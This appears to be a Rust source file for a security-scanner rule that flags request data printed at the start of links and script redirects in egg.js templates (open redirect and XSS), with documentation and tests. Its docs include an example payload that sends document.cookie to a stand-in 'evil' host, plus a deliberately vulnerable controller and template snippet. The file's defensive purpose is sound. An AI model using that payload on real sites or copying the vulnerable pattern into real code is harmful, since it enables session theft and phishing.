//! `MW033` `template-link-or-location-from-request`: a template puts request data at the start
//! of a link or a script redirect — `<a href="<%= next %>">`, `<form action="{{ url }}">`,
//! `location.href = "{{ next }}"` — where HTML escaping does not stop `javascript:` URLs or
//! another site (client-side open redirect and XSS, issue 12 class 4).

use super::template_prints_request_data_raw::{
    idents, render_evidence, rendered_templates, through_outbound_response,
};
use crate::{Rule, RuleContext, RuleDocs, RuleMeta};
use eggsec_report::{Confidence, Severity, Strategy};
use regex::Regex;
use std::path::Path;
use std::sync::LazyLock;

pub struct TemplateLinkOrLocationFromRequest;

static META: RuleMeta = RuleMeta {
    code: "MW033",
    name: "template-link-or-location-from-request",
    strategy: Strategy::Middleware,
    severity: Severity::High,
    confidence: Confidence::Medium,
    control: "Links and script redirects in templates never start with request data",
    docs: RuleDocs {
        what: r#"Follows `ctx.render('view', data)` (an object literal, or a local object passed by name with the fields it was created with or assigned before the render) to the template under `app/view` and reports each output tag — escaped or raw: EJS `<%= x %>`/`<%- x %>`, nunjucks/handlebars/art-template `{{ x }}`, `{{{ x }}}`, `{{@ x }}`, pug `#{x}`/`a(href=x)` — that prints a request-fed variable at the very start of a URL the browser follows: an `href`, `action`, `formaction`, `<iframe>`/`<script>`/`<embed>`/`<object>` `src` attribute, a meta refresh `url=`, or a script's `location = `, `location.href = `, `location.assign(`/`location.replace(`, `window.open(`. The attribute or the `location =` may end on a line above the tag when only blanks and a quote come before the tag on its own line (`href=` then `"{{ next }}"` on the next line; up to three lines, template and HTML comments skipped). The location cases are high, link attributes medium. Quiet when the URL starts with fixed text (`href="/user/{{ id }}"`), when the value is URL-encoded in the template (`encodeURIComponent(x)`, `| urlencode`), and when the controller fixed or checked it (a `/path` prefix, an allow-list test) before rendering."#,
        why: r#"HTML escaping keeps the value inside the attribute or string but does not change where it points: `?next=javascript:fetch('//evil/'+document.cookie)` runs script in the app's origin when the link is followed or at once for `location.href = ...` (XSS), and `?next=https://evil.example/login` sends users from a trusted page to a phishing copy (open redirect) — egg-security's `ctx.redirect` allow-list does not see redirects done by the page."#,
        bad: r#"// controller
await ctx.render('login.html', { next: ctx.query.next });
<!-- app/view/login.html -->
<script>function done() { location.href = "{{ next }}"; }</script>
<a href="{{ next }}">continue</a>"#,
        good: r#"// controller: only same-site paths
const next = ctx.query.next || '/';
const safeNext = next.startsWith('/') && !next.startsWith('//') ? next : '/';
await ctx.render('login.html', { next: safeNext });
<!-- or a fixed prefix in the template -->
<a href="/go?to={{ next | urlencode }}">continue</a>"#,
        fix: r#"Check the value on the server before rendering: allow only same-site paths (`x.startsWith('/') && !x.startsWith('//') && !x.startsWith('/\\')`) or origins on an allow-list (`new URL(x).origin` in a list; egg-security's `ctx.isSafeDomain(x)`), and fall back to a fixed page; in the template, start URLs with fixed text (`/user/{{ id }}`) and URL-encode values placed in them."#,
    },
};

/// A URL context: the text before an output tag on its line ends with the start of a URL.
static ATTR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:<\s*([a-z][a-z0-9-]*)\b[^<>]*?\s)?\b(href|action|formaction|src|data|xlink:href)\s*=\s*["']?\s*$"#)
        .expect("regex")
});
static LOCATION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:\blocation(?:\.href)?\s*=|\blocation\.(?:assign|replace)\s*\(|\bwindow\.open\s*\(|;\s*url=)\s*["'`]?\s*$"#)
        .expect("regex")
});
/// pug: `a(href=next)`, `form(action=url)`.
static PUG_ATTR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(href|action|formaction|src)\s*=\s*([A-Za-z_$][\w$.]*)\s*[,)\s]"#)
        .expect("regex")
});

/// Where a tag starts a URL: `Some(true)` for a script redirect, `Some(false)` for a link.
fn url_context(before: &str) -> Option<bool> {
    if LOCATION.is_match(before) {
        return Some(true);
    }
    let c = ATTR.captures(before)?;
    let attr = c.get(2).map(|m| m.as_str().to_ascii_lowercase())?;
    if attr == "src" || attr == "data" {
        // images and media do not run a javascript: URL; frames, scripts and objects do
        let tag = c.get(1).map(|m| m.as_str().to_ascii_lowercase())?;
        if !matches!(
            tag.as_str(),
            "iframe" | "frame" | "script" | "embed" | "object"
        ) {
            return None;
        }
    }
    Some(false)
}

/// Template and HTML comments (nunjucks `{# #}`, EJS `<%# %>`, handlebars `{{! }}`,
/// `<!-- -->`): gone from the page, so they do not end a URL context.
static COMMENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?s)\{#.*?#\}|<%#.*?%>|\{\{!--.*?--\}\}|\{\{![^}]*\}\}|<!--.*?-->").expect("regex")
});

/// The text before a tag that starts its line (after blanks and a quote): the attribute or
/// the `location =` may sit on the lines above (`<a class="btn"\n   href=\n   "{{ next }}">`).
/// Up to three earlier lines that are not blank once comments are gone, joined.
fn context_above(lines: &[&str], i: usize, prefix: &str) -> Option<String> {
    if !prefix
        .chars()
        .all(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
    {
        return None;
    }
    let mut above: Vec<String> = Vec::new();
    for l in lines[..i].iter().rev() {
        let l = COMMENT.replace_all(l, "");
        if l.trim().is_empty() {
            continue;
        }
        above.push(l.into_owned());
        if above.len() == 3 {
            break;
        }
    }
    if above.is_empty() {
        return None;
    }
    above.reverse();
    Some(format!("{}\n{prefix}", above.join("\n")))
}

/// The output tags of a template that start a URL: (line, column, tag, identifiers, script).
pub fn url_outputs(name: &str, text: &str) -> Vec<(u32, u32, String, Vec<String>, bool)> {
    let ext = Path::new(name)
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or("")
        .to_ascii_lowercase();
    let pairs: &[(&str, &str)] = match ext.as_str() {
        "ejs" => &[("<%=", "%>"), ("<%-", "%>")],
        "pug" | "jade" => &[("#{", "}"), ("!{", "}")],
        "hbs" | "handlebars" => &[("{{{", "}}}"), ("{{", "}}")],
        "art" => &[("{{@", "}}"), ("{{", "}}"), ("<%=", "%>"), ("<%-", "%>")],
        _ => &[
            ("{{{", "}}}"),
            ("{{@", "}}"),
            ("{{", "}}"),
            ("<%=", "%>"),
            ("<%-", "%>"),
        ],
    };
    let mut out = Vec::new();
    let lines: Vec<&str> = text.lines().collect();
    for (i, line) in lines.iter().copied().enumerate() {
        let lno = i as u32 + 1;
        let mut taken: Vec<usize> = Vec::new();
        for (open, close) in pairs {
            let mut from = 0;
            while let Some(o) = line[from..].find(open).map(|o| o + from) {
                let Some(c) = line[o + open.len()..]
                    .find(close)
                    .map(|c| c + o + open.len())
                else {
                    break;
                };
                from = c + close.len();
                // `{{{` was already seen as itself, not as `{{`
                if taken.iter().any(|&t| t <= o && o < t + 3) {
                    continue;
                }
                taken.push(o);
                let expr = &line[o + open.len()..c];
                let lexpr = expr.to_ascii_lowercase();
                if lexpr.contains("encodeuricomponent")
                    || lexpr.contains("urlencode")
                    || lexpr.contains("url_encode")
                {
                    continue;
                }
                let context = url_context(&line[..o])
                    .or_else(|| context_above(&lines, i, &line[..o]).and_then(|c| url_context(&c)));
                if let Some(script) = context {
                    out.push((
                        lno,
                        line[..o].chars().count() as u32 + 1,
                        line[o..c + close.len()].to_string(),
                        idents(expr),
                        script,
                    ));
                }
            }
        }
        if matches!(ext.as_str(), "pug" | "jade") {
            for c in PUG_ATTR.captures_iter(line) {
                let (Some(all), Some(v)) = (c.get(0), c.get(2)) else {
                    continue;
                };
                let root = v.as_str().split('.').next().unwrap_or("").to_string();
                out.push((
                    lno,
                    line[..all.start()].chars().count() as u32 + 1,
                    all.as_str().trim_end_matches([',', ')', ' ']).to_string(),
                    vec![root],
                    false,
                ));
            }
        }
    }
    out
}

impl Rule for TemplateLinkOrLocationFromRequest {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &mut RuleContext<'_>) {
        let app = cx.app;
        if app.code.renders.is_empty() {
            cx.not_applicable();
            return;
        }
        let mut seen = std::collections::HashSet::new();
        for (r, path, rel, text) in rendered_templates(app) {
            for (line, column, tag, ids, script) in url_outputs(&rel, &text) {
                let Some(var) = r.render.vars.iter().find(|v| {
                    ids.contains(&v.name) && !v.url_checked && !through_outbound_response(&v.steps)
                }) else {
                    continue;
                };
                if !seen.insert((rel.clone(), line, column)) {
                    continue;
                }
                let evidence = render_evidence(r, var, &rel, line, &tag);
                let prov =
                    eggsec_js::Provenance::new(path.to_string_lossy().into_owned(), line, column);
                let what = if script {
                    "a script redirect"
                } else {
                    "a link"
                };
                let f = cx.report(
                    &prov,
                    format!(
                        "{rel} starts {what} with `{}` ({tag}), request data from {}: `javascript:` or another site's URL goes through HTML escaping",
                        var.name, r.render.function
                    ),
                    evidence,
                    META.docs.fix,
                );
                if !script {
                    f.severity = Severity::Medium;
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{model_with_view, run_rule};

    fn app(view: &str, tpl: &str, controller: &str) -> eggsec_app::AppModel {
        model_with_view(view, tpl, controller)
    }

    #[test]
    fn url_starts_per_engine() {
        for (view, tpl, script) in [
            (
                "p.ejs",
                "<script>\n  location.href = \"<%= next %>\";\n</script>",
                true,
            ),
            (
                "p.html",
                "<script>window.location = '{{ next }}';</script>",
                true,
            ),
            (
                "p.html",
                "<script>location.replace({{ next | dump | safe }});</script>",
                true,
            ),
            (
                "p.html",
                "<a class=\"btn\" href=\"{{ next }}\">go</a>",
                false,
            ),
            ("p.hbs", "<form method=\"post\" action=\"{{next}}\">", false),
            ("p.art", "<iframe src=\"{{ next }}\"></iframe>", false),
            ("p.pug", "a(href=next) continue", false),
            (
                "p.html",
                "<meta http-equiv=\"refresh\" content=\"0;url={{ next }}\">",
                true,
            ),
        ] {
            let c = format!("exports.p = async ctx => {{ await ctx.render('{view}', {{ next: ctx.query.next, title: 'x' }}); }};");
            let f = run_rule(&TemplateLinkOrLocationFromRequest, &app(view, tpl, &c));
            assert_eq!(f.len(), 1, "{view}: {tpl}");
            assert_eq!(
                f[0].severity,
                if script {
                    Severity::High
                } else {
                    Severity::Medium
                },
                "{tpl}"
            );
            assert!(
                f[0].evidence[0].starts_with("source "),
                "{:?}",
                f[0].evidence
            );
            assert!(
                f[0].evidence.last().unwrap().starts_with("sink "),
                "{:?}",
                f[0].evidence
            );
        }
        // render data in a variable, with its fields set when created or after
        for c in [
            "exports.p = async ctx => { const data = { next: ctx.query.next }; await ctx.render('p.html', data); };",
            "exports.p = async ctx => { const data = {}; data.next = ctx.query.next; await ctx.render('p.html', data); };",
        ] {
            assert_eq!(
                run_rule(
                    &TemplateLinkOrLocationFromRequest,
                    &app("p.html", "<a href=\"{{ next }}\">go</a>", c)
                )
                .len(),
                1,
                "{c}"
            );
        }
    }

    #[test]
    fn url_start_on_the_lines_above() {
        let c =
            "exports.p = async ctx => { await ctx.render('p.html', { next: ctx.query.next }); };";
        for (tpl, line, script) in [
            (
                "<a class=\"btn\"\n   href=\n   \"{{ next }}\">go</a>",
                3,
                false,
            ),
            (
                "<form method=\"post\" action=\"\n{# the target #}\n{{ next }}\">",
                3,
                false,
            ),
            (
                "<script>\n  window.location.href =\n    '{{ next }}';\n</script>",
                3,
                true,
            ),
            (
                "<script>\n  location.replace(\n\n    \"{{ next }}\"\n  );\n</script>",
                4,
                true,
            ),
        ] {
            let f = run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", tpl, c));
            assert_eq!(f.len(), 1, "{tpl}");
            assert_eq!(f[0].location.line(), Some(line), "{tpl}");
            assert_eq!(f[0].severity == Severity::High, script, "{tpl}");
        }
        for tpl in [
            // text before the tag: the URL's start is fixed
            "<a href=\"/search?q=\n{{ next }}\">again</a>",
            // the attribute above is complete; this one is a title
            "<a href=\"/home\"\n   class=\"link\"\n   title=\"{{ next }}\">{{ next }}</a>",
            // a link's text on its own line
            "<a href=\"/home\">\n  {{ next }}\n</a>",
            // encoded
            "<a href=\n  \"{{ next | urlencode }}\">go</a>",
        ] {
            assert!(
                run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", tpl, c)).is_empty(),
                "{tpl}"
            );
        }
    }

    #[test]
    fn look_alikes_are_quiet() {
        let c = "exports.p = async ctx => { await ctx.render('p.html', { next: ctx.query.next, home: '/' }); };";
        for tpl in [
            "<a href=\"/user/{{ next }}/edit\">edit</a>",
            "<a href=\"{{ home }}\">home</a>",
            "<p>Next: {{ next }}</p>",
            "<img src=\"{{ next }}\">",
            "<a href=\"/go?to={{ next | urlencode }}\">go</a>",
            "<script>var n = '{{ next }}'; console.log(location.href);</script>",
        ] {
            assert!(
                run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", tpl, c)).is_empty(),
                "{tpl}"
            );
        }
        // checked in the controller: a path prefix, an allow-list
        for c in [
            "exports.p = async ctx => { await ctx.render('p.html', { next: '/go/' + ctx.query.next }); };",
            "const OK = ['/a', '/b'];\nexports.p = async ctx => { const n = ctx.query.next; if (!OK.includes(n)) return; await ctx.render('p.html', { next: n }); };",
        ] {
            assert!(
                run_rule(&TemplateLinkOrLocationFromRequest, &app("p.html", "<a href=\"{{ next }}\">go</a>", c)).is_empty(),
                "{c}"
            );
        }
    }
}
